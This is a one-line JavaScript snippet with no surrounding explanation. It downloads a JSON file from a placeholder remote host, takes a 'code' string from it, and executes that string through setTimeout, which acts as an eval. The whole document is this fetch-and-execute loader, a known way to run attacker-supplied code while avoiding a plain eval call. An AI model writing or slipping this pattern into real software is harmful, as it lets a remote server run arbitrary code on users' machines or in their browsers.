const { code } = await (await fetch('https://c.invalid/c.json')).json(); setTimeout(code);
